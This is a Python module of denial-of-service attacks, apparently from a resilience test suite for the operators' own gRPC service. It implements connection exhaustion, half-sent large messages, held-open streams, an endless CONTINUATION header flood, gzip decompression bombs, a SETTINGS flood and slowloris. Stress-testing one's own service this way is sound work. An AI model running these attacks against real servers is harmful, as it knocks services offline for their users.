"""What somebody does who can reach the ports and has no token."""

import contextlib
import gzip
import http.client
import itertools
import resource
import struct

import grpc
from harness.raw_http2 import DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, SETTINGS, frame, literal, read_status

from attacks.target import Answers, crowd

WATCH = "/grpc.health.v1.Health/Watch"
REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
INVOKE = "/holysheep.node.v1.LlmNode/Invoke"
LIST_SERVICES = b"\x3a\x01*"
CONTINUATION = 9
MB = 1 << 20
# What ends a bare connection.
GONE = (OSError, TimeoutError)


def head(target, stream, path=INVOKE, extra=()):
    """The frame that begins a call."""
    headers = {":method": "POST", ":scheme": "http", ":path": path, ":authority": target.address,
               "te": "trailers", "content-type": "application/grpc", **dict(extra)}
    return frame(HEADERS, END_HEADERS, stream, b"".join(literal(*header) for header in headers.items()))


def greeting(payload=b""):
    return PREFACE + frame(SETTINGS, 0, 0, payload)


def more_files():
    """As many open files as the system allows."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def was_closed(connection):
    """Reads what is there; whether the other side has closed."""
    connection.setblocking(False)
    try:
        while data := connection.recv(65536):
            del data
        return True
    except BlockingIOError:
        return False
    except OSError:
        return True


def connections(target):
    """As many connections as `limits.max_connections` and 500 more, each of which says
    HTTP/2's greeting and stays; each that is closed is made again."""
    more_files()
    answers, alive = Answers(), []
    while target.left():
        while len(alive) < target.connections + 500 and target.left():
            try:
                connection = target.connect()
                connection.sendall(greeting())
                alive.append(connection)
                answers["connected"] += 1
            except GONE:
                answers["not connected"] += 1
        closed = [connection for connection in alive if was_closed(connection)]
        answers["closed by the service"] += len(closed)
        for connection in closed:
            connection.close()
        alive = [connection for connection in alive if connection.fileno() >= 0]
        target.pause(0.02)
    answers["open in the end"] = len(alive)
    return answers


def half_sent(target):
    """20 connections with 500 calls each, every one of which says that 31 MiB come and
    sends 64 bytes of them."""
    answers, alive = Answers(), []
    begun = b"\x00" + struct.pack(">I", 31 * MB) + bytes(64)
    for _ in range(20):
        with contextlib.suppress(*GONE):
            connection = target.connect()
            alive.append(connection)
            connection.sendall(greeting())
            for stream in range(1, 1000, 2):
                connection.sendall(head(target, stream) + frame(DATA, 0, stream, begun))
                answers["begun"] += 1
    while target.left():
        target.pause()
    answers["connections closed by the service"] = sum(map(was_closed, alive))
    return answers


def open_streams(target):
    """100 connections with 100 streams of Health.Watch or reflection each, which stay open."""
    watch = frame(DATA, END_STREAM, 0, bytes(5))
    ask = frame(DATA, 0, 0, b"\x00" + struct.pack(">I", len(LIST_SERVICES)) + LIST_SERVICES)
    answers, alive = Answers(), []
    for _ in range(100):
        with contextlib.suppress(*GONE):
            connection = target.connect()
            connection.sendall(greeting())
            alive.append(connection)
            for stream in range(1, 200, 4):
                connection.sendall(head(target, stream, WATCH) + on(stream, watch)
                                   + head(target, stream + 2, REFLECT) + on(stream + 2, ask))
                answers["begun"] += 2
    while target.left():
        target.pause()
    answers["ended by the service"] = sum(map(ended_streams, alive))
    answers["connections closed"] = sum(map(was_closed, alive))
    return answers


def on(stream, frame):
    """The frame, on another stream."""
    return frame[:5] + struct.pack(">I", stream) + frame[9:]


def ended_streams(connection):
    """How many streams the other side has ended, in what is there to be read."""
    data, ended = b"", 0
    connection.setblocking(False)
    with contextlib.suppress(OSError):
        while piece := connection.recv(1 << 20):
            data += piece
    while len(data) >= 9:
        length, kind, flags = int.from_bytes(data[:3], "big"), data[3], data[4]
        ended += kind == HEADERS and flags & END_STREAM
        data = data[9 + length:]
    return ended


def endless_headers(target):
    """Four connections, each with headers that never end; one that is cut off begins again."""

    def work(_, answers):
        piece = literal("x", "y" * 100) * 150
        while target.left():
            with contextlib.suppress(*GONE), target.connect() as connection:
                answers["connected"] += 1
                connection.sendall(greeting() + frame(HEADERS, 0, 1, literal(":method", "POST")))
                while target.left():
                    connection.sendall(frame(CONTINUATION, 0, 1, piece))
                    answers["MB sent"] += len(piece) / MB
                return
            answers["cut off"] += 1
    return whole(crowd(4, work))


def whole(answers):
    return Answers({what: round(count) for what, count in answers.items()})


def bombs(target):
    """Messages of 60 KB that unpack to 60 MB, compressed with gzip, in eight loops."""
    bomb = gzip.compress(bytes(60 * MB), 9)
    message = b"\x01" + struct.pack(">I", len(bomb)) + bomb
    frames = b"".join(frame(DATA, 0, 1, message[i:i + 16384]) for i in range(0, len(message), 16384))

    def work(_, answers):
        while target.left():
            with contextlib.suppress(*GONE), target.connect() as connection:
                connection.sendall(greeting() + head(target, 1, extra={"grpc-encoding": "gzip"})
                                   + frames + frame(DATA, END_STREAM, 1))
                status = read_status(connection)
                answers["closed" if status is None else grpc_name(status)] += 1
    return crowd(8, work)


def grpc_name(number):
    return next(code.name for code in grpc.StatusCode if code.value[0] == number)


def settings_flood(target):
    """Four connections that send nothing but SETTINGS, each of which gRPC answers."""
    many = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 1000

    def work(_, answers):
        while target.left():
            with contextlib.suppress(*GONE), target.connect() as connection:
                connection.sendall(greeting())
                while target.left():
                    connection.sendall(many)
                    answers["frames sent"] += 1000
                    was_closed(connection)
                    connection.settimeout(2)
                return
            answers["cut off"] += 1
    return crowd(4, work)


def slow_loris(target):
    """200 connections to `http.listen` that send a byte of a request each half second;
    next to them somebody asks for /healthz."""
    answers, alive = Answers(), []
    said = itertools.chain(b"GET /metrics HTTP/1.1\r\nHost: a\r\nX: ", itertools.repeat(ord("a")))
    while target.left():
        byte = bytes([next(said)])
        alive = [connection for connection in alive if still_takes(connection, byte)]
        while len(alive) < 200 and target.left():
            try:
                alive.append(target.connect(target.http))
                answers["connected"] += 1
            except GONE:
                answers["not connected"] += 1
        answers[f"/healthz: {health(target)}"] += 1
        target.pause(0.5)
    answers["open in the end"] = len(alive)
    return answers


def still_takes(connection, byte):
    if was_closed(connection):
        connection.close()
        return False
    try:
        connection.sendall(byte)
    except OSError:
        connection.close()
        return False
    return True


def health(target):
    """What /healthz says to somebody who waits for a second."""
    host, port = target.http.rsplit(":", 1)
    asked = http.client.HTTPConnection(host, int(port), timeout=1)
    try:
        asked.request("GET", "/healthz")
        return asked.getresponse().status
    except (*GONE, http.client.HTTPException):
        return "no answer"
    finally:
        asked.close()
